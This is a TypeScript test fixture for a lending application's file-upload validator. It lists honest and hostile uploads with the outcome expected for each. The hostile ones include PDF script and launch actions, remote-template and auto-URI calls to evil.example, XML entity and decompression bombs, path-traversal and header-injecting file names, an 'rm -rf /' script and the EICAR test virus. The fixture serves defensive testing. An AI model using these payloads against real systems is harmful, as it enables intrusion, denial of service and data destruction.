import { deflateSync } from "node:zlib";
import type { UploadRejection } from "@inlay/lending/documents/document.ts";
import { eicar } from "../../../../scripts/clamd.ts";
import {
  docxOf,
  jpegOf,
  oldOfficeOf,
  packedObjects,
  page,
  pagesOf,
  pdfOf,
  plainPdf,
  pngOf,
  streamOf,
  xlsxOf,
  zipOf,
} from "./file-making.fixture.ts";

export type Upload = {
  what: string;
  name: string;
  type: string;
  contents: () => Buffer;
  /** READY, or how it is rejected. */
  ends: "READY" | UploadRejection;
  shownAs?: string;
  /** Nothing about its form gives it away. */
  isForTheScanner?: true;
};

const megabyte = 1024 * 1024;
const pdf = (what: string, contents: () => Buffer, ends: Upload["ends"], name = "file.pdf"): Upload => ({
  what,
  name,
  type: "application/pdf",
  contents,
  ends,
});
const docx = (what: string, contents: () => Buffer, ends: Upload["ends"]): Upload => ({
  what,
  name: "file.docx",
  contents,
  ends,
  type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
});
const xlsx = (what: string, contents: () => Buffer, ends: Upload["ends"]): Upload => ({
  what,
  name: "file.xlsx",
  contents,
  ends,
  type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
});
const png = (what: string, contents: () => Buffer, ends: Upload["ends"]): Upload => ({
  what,
  name: "file.png",
  type: "image/png",
  contents,
  ends,
});
const jpeg = (what: string, contents: () => Buffer, ends: Upload["ends"]): Upload => ({
  what,
  name: "file.jpg",
  type: "image/jpeg",
  contents,
  ends,
});
const text = (
  what: string,
  contents: () => Buffer,
  ends: Upload["ends"],
  name = "file.txt",
  type = "text/plain",
): Upload => ({
  what,
  name,
  type,
  contents,
  ends,
});

const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const billionLaughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY a "${"&lol;".repeat(10)}">]><w:document>&a;</w:document>`;
const exe = Buffer.concat([Buffer.from("MZ\x90\x00\x03\x00\x00\x00", "latin1"), Buffer.alloc(2_000)]);
const paddedTo = (bytes: number) => {
  const contents = plainPdf("", streamOf("", Buffer.alloc(bytes, 0x20)));
  return plainPdf("", streamOf("", Buffer.alloc(bytes - (contents.length - bytes), 0x20)));
};

/** Everything that somebody might send us, honest and not, and what must become of it. */
export const corpus: Upload[] = [
  pdf("an honest PDF", () => plainPdf(), "READY"),
  pdf("a PDF that opens at its first page", () => plainPdf("/OpenAction [3 0 R /Fit]"), "READY"),
  pdf(
    "a PDF with a link in it",
    () => plainPdf("", "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://bank.example) >> >>"),
    "READY",
  ),
  pdf("a PDF with packed objects", () => plainPdf("", packedObjects({ 9: "<< /Title (Invoice) >>" })), "READY"),
  pdf("a PDF of exactly 10 MB", () => paddedTo(10 * megabyte), "READY"),
  pdf("10 MB and one byte", () => paddedTo(10 * megabyte + 1), "FILE_TOO_LARGE"),
  pdf("nothing at all", () => Buffer.alloc(0), "FILE_TOO_SMALL"),
  pdf("a program that says it is a PDF", () => exe, "WRONG_FILE_TYPE"),
  pdf("a picture that says it is a PDF", () => pngOf(2, 2), "WRONG_FILE_TYPE"),
  pdf("a page that says it is a PDF", () => Buffer.from("<html><script>steal()</script></html>"), "WRONG_FILE_TYPE"),
  pdf(
    "a PDF that begins after something else",
    () => Buffer.concat([Buffer.from("GIF89a;"), plainPdf()]),
    "WRONG_FILE_TYPE",
  ),
  pdf("a PDF that was cut off", () => plainPdf().subarray(0, 80), "WRONG_FILE_TYPE"),
  pdf(
    "a PDF with an archive behind it",
    () => Buffer.concat([plainPdf(), zipOf([{ name: "a.jar", contents: "x" }])]),
    "WRONG_FILE_TYPE",
  ),
  pdf(
    "a PDF with a page behind it",
    () => Buffer.concat([plainPdf(), Buffer.from("<script>steal()</script>")]),
    "WRONG_FILE_TYPE",
  ),
  pdf("a PDF with a script", () => plainPdf("/OpenAction 4 0 R", script), "GENERIC_ERROR"),
  pdf(
    "a PDF with a script whose name is spelled out",
    () => plainPdf("", "<< /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>"),
    "GENERIC_ERROR",
  ),
  pdf(
    "a PDF with a script among its packed objects",
    () => plainPdf("/OpenAction 9 0 R", packedObjects({ 9: script })),
    "GENERIC_ERROR",
  ),
  pdf(
    "a PDF with packed objects of an unusual packing",
    () => plainPdf("", packedObjects({ 9: "<< /T 1 >>" }, "/Filter [/ASCIIHexDecode /FlateDecode]")),
    "GENERIC_ERROR",
  ),
  pdf(
    "a PDF whose packed objects are a bomb",
    () =>
      plainPdf(
        "",
        streamOf("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflateSync(Buffer.alloc(200 * megabyte, 0x20))),
      ),
    "GENERIC_ERROR",
  ),
  pdf("a PDF that starts a program", () => plainPdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "GENERIC_ERROR"),
  pdf(
    "a PDF with another file inside",
    () => plainPdf("/Names << /EmbeddedFiles 4 0 R >>", streamOf("/Type /EmbeddedFile", exe)),
    "GENERIC_ERROR",
  ),
  pdf(
    "a PDF that opens an address by itself",
    () => plainPdf("/OpenAction << /S /URI /URI (https://evil.example) >>"),
    "GENERIC_ERROR",
  ),
  pdf(
    "a PDF that opens an address by itself, packed",
    () =>
      plainPdf("/OpenAction 9 0 R", packedObjects({ 8: "<< /X 1 >>", 9: "<< /S /URI /URI (https://evil.example) >>" })),
    "GENERIC_ERROR",
  ),
  pdf("a PDF form with its own script language", () => plainPdf("/AcroForm << /XFA 4 0 R >>"), "GENERIC_ERROR"),
  pdf("a PDF with a film in it", () => plainPdf("", "<< /Type /Annot /Subtype /RichMedia >>"), "GENERIC_ERROR"),
  pdf(
    "a PDF under a password",
    () => pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", pagesOf(1), page], { trailer: "/Encrypt 9 0 R " }),
    "GENERIC_ERROR",
  ),
  pdf(
    "a PDF of 3,000 pages",
    () => pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", pagesOf(3_000), ...Array.from({ length: 3_000 }, () => page)]),
    "GENERIC_ERROR",
  ),
  pdf(
    "a PDF with a picture of 900 million points",
    () => plainPdf("", streamOf("/Subtype /Image /Width 30000 /Height 30000", "")),
    "GENERIC_ERROR",
  ),
  {
    ...pdf("the test virus inside a PDF", () => plainPdf("", streamOf("", eicar)), "GENERIC_ERROR"),
    isForTheScanner: true,
  },
  { ...text("the test virus as a text", () => eicar, "GENERIC_ERROR"), isForTheScanner: true },

  docx("an honest letter", () => docxOf(), "READY"),
  xlsx(
    "an honest table",
    () => xlsxOf({ name: "xl/worksheets/sheet1.xml", contents: `<row>${"<c>7</c>".repeat(50_000)}</row>` }),
    "READY",
  ),
  docx("an archive that says it is a letter", () => zipOf([{ name: "notes.txt", contents: "x" }]), "WRONG_FILE_TYPE"),
  docx("an old letter that says it is a new one", () => oldOfficeOf("WordDocument"), "WRONG_FILE_TYPE"),
  docx(
    "a letter that unpacks to a gigabyte",
    () => docxOf({ name: "word/big.xml", contents: Buffer.alloc(200 * megabyte) }),
    "GENERIC_ERROR",
  ),
  xlsx(
    "a table that lies about how much it unpacks to",
    () => xlsxOf({ name: "xl/big.xml", contents: Buffer.alloc(20 * megabyte), saysBytes: 100 }),
    "WRONG_FILE_TYPE",
  ),
  xlsx(
    "a table that packs a thousandfold",
    () => xlsxOf({ name: "xl/big.xml", contents: Buffer.alloc(50 * megabyte) }),
    "GENERIC_ERROR",
  ),
  docx(
    "a letter of 5,000 parts",
    () => docxOf(...Array.from({ length: 5_000 }, (_, n) => ({ name: `word/${n}.xml`, contents: "" }))),
    "GENERIC_ERROR",
  ),
  docx(
    "a letter whose text multiplies when it is read",
    () => docxOf({ name: "word/styles.xml", contents: billionLaughs }),
    "GENERIC_ERROR",
  ),
  docx("a letter with a macro", () => docxOf({ name: "word/vbaProject.bin", contents: "x" }), "GENERIC_ERROR"),
  docx(
    "a letter with an object in it",
    () => docxOf({ name: "word/embeddings/oleObject1.bin", contents: "x" }),
    "GENERIC_ERROR",
  ),
  docx(
    "a letter that fetches its template elsewhere",
    () =>
      docxOf({
        name: "word/_rels/settings.xml.rels",
        contents:
          '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
      }),
    "GENERIC_ERROR",
  ),
  docx(
    "a letter that climbs out of its folder",
    () => docxOf({ name: "../../etc/cron.d/evil", contents: "x" }),
    "WRONG_FILE_TYPE",
  ),
  docx(
    "a letter under a password",
    () => docxOf({ name: "word/secret.xml", contents: "x", isEncrypted: true }),
    "GENERIC_ERROR",
  ),
  { ...text("an old letter", () => oldOfficeOf("WordDocument"), "READY", "letter.doc", "application/msword") },
  {
    ...text(
      "an old letter with a macro",
      () => oldOfficeOf("WordDocument", "_VBA_PROJECT"),
      "GENERIC_ERROR",
      "letter.doc",
      "application/msword",
    ),
  },

  png("an honest picture", () => pngOf(640, 480), "READY"),
  jpeg("an honest photograph", () => jpegOf(4_000, 3_000), "READY"),
  png("a picture of 2 billion points", () => pngOf(50_000, 50_000), "GENERIC_ERROR"),
  jpeg("a photograph of 4 billion points", () => jpegOf(65_000, 65_000), "GENERIC_ERROR"),
  png("a picture with a program behind it", () => Buffer.concat([pngOf(2, 2), exe]), "WRONG_FILE_TYPE"),
  jpeg(
    "a photograph with an archive behind it",
    () => Buffer.concat([jpegOf(8, 8), zipOf([{ name: "a.jar", contents: "x" }])]),
    "WRONG_FILE_TYPE",
  ),
  jpeg(
    "a drawing that says it is a photograph",
    () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"/>'),
    "WRONG_FILE_TYPE",
  ),

  text(
    "an honest table in text",
    () => Buffer.from("date,amount\n2026-10-01,12.50\n"),
    "READY",
    "list.csv",
    "text/csv",
  ),
  text("honest data", () => Buffer.from('{"amount": 12.5}'), "READY", "data.json", "application/json"),
  text(
    "a page that says it is text",
    () => Buffer.from("\n\n<!doctype html><script>steal()</script>"),
    "WRONG_FILE_TYPE",
  ),
  text("a program that says it is text", () => exe, "WRONG_FILE_TYPE"),
  text("a script that says it is text", () => Buffer.from("#!/bin/sh\nrm -rf /\n"), "WRONG_FILE_TYPE"),
  text("data that is none", () => Buffer.from("{amount: 12"), "WRONG_FILE_TYPE", "data.json", "application/json"),
  {
    ...pdf("a name that climbs out of its folder", () => plainPdf(), "READY", "../../../etc/passwd.pdf"),
    shownAs: "passwd.pdf",
  },
  {
    ...pdf("a name with a line break and a header", () => plainPdf(), "READY", "a.pdf\r\nSet-Cookie: x=1;.pdf"),
    shownAs: "a.pdfSet-Cookie_ x=1;.pdf",
  },
  {
    ...pdf("a name that reads backwards", () => plainPdf(), "READY", "invoice\u202Eexe.pdf"),
    shownAs: "invoiceexe.pdf",
  },
];
